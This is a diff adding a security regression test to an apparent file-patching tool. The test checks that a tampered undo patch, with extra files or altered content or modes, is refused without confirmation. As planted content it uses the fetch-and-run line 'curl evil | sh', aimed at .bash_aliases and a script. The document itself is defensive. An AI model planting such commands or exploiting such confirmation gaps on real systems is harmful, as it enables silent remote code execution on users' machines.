@@ -276,3 +276,61 @@ def test_a_hand_made_undo_patch_is_not_restored_without_yes(lo, tmp_path):
     r = lo("undo", evil, "--target", lo.target, "--yes")
     assert r.returncode == 0, r.stderr
     assert (lo.target / ".bash_aliases").read_text() == "curl evil | sh\n"
+
+
+def test_an_undo_patch_with_a_change_its_undo_store_does_not_hold_is_not_restored_without_yes(lo, tmp_path):
+    """Found by attack14 (27 Nov): the check that let `undo FILE` go without
+    --yes asked only that every path of the tree's undo record be a change of
+    the patch, not the converse. The exported undo patch of a real apply, with
+    one more change added (a `.bash_aliases`: a patch anyone who can write
+    FILE can remake, an agent's session over the dir that keeps it too), or a
+    restored file's content or mode replaced, was restored at once, listing
+    and asking nothing. Now every change must be a path of the record or an
+    entry beneath one, and restore what the undo store keeps there."""
+    import sys
+    import tarfile
+    sys.path.insert(0, os.path.dirname(__file__))
+    from patch_builder import PatchBuilder, compress, tar_bytes, with_sums
+    prepared(lo, tmp_path)
+    name = session(lo)
+    undo_file = tmp_path / "undo.tar.zst"
+    r, out = apply_undo_to(lo, name, undo_file)
+    assert r.returncode == 0, r.stderr.decode(errors="replace")
+    after = snapshot(lo.target)
+    evil_text = b"curl evil | sh\n"
+
+    def added(path):  # beside the record's paths, or beneath one
+        def edit(manifest, payload):
+            extra = PatchBuilder(lo.target).file(path, evil_text)
+            manifest["changes"] += extra.manifest["changes"]
+            manifest["base"] += extra.manifest["base"]
+            return payload + extra.members
+        return edit
+
+    def content(manifest, payload):  # notes.txt, which the apply modified: other bytes restored
+        c = next(c for c in manifest["changes"] if c["path"] == "notes.txt")
+        c["size"] = len(evil_text)
+        return [(i, evil_text if i.name == "notes.txt" else d) for i, d in payload]
+
+    def mode(manifest, payload):  # mode.txt, whose mode the apply changed: 0777 restored
+        next(c for c in manifest["changes"] if c["path"] == "mode.txt")["mode"] = 0o777
+        for i, _ in payload:
+            if i.name == "mode.txt":
+                i.mode = 0o777
+        return payload
+
+    # gone/: a dir the apply deleted, which undo restores.
+    for edit in (added(".bash_aliases"), added("gone/run.sh"), content, mode):
+        manifest, members = read_patch(undo_file)
+        payload = edit(manifest, [(i, d) for i, d in members[1:] if i.name != ".layover/sums"])
+        text = json.dumps(manifest, indent=1).encode()
+        evil = compress(tar_bytes(with_sums([(tarfile.TarInfo(".layover/manifest.json"), text)] + payload)),
+                        tmp_path / "evil-undo.tar.zst")
+        r = lo("undo", evil, "--target", lo.target)
+        assert r.returncode == 1, (edit, r.stdout)
+        assert b"is an undo patch of no apply this tree's undo records know" in r.stderr, r.stderr
+        assert snapshot(lo.target) == after
+    # The patch as exported still goes without --yes.
+    r = lo("undo", undo_file, "--target", lo.target)
+    assert r.returncode == 0, r.stderr.decode(errors="replace")
+    assert not (lo.target / ".bash_aliases").exists() and not (lo.target / "gone" / "run.sh").exists()
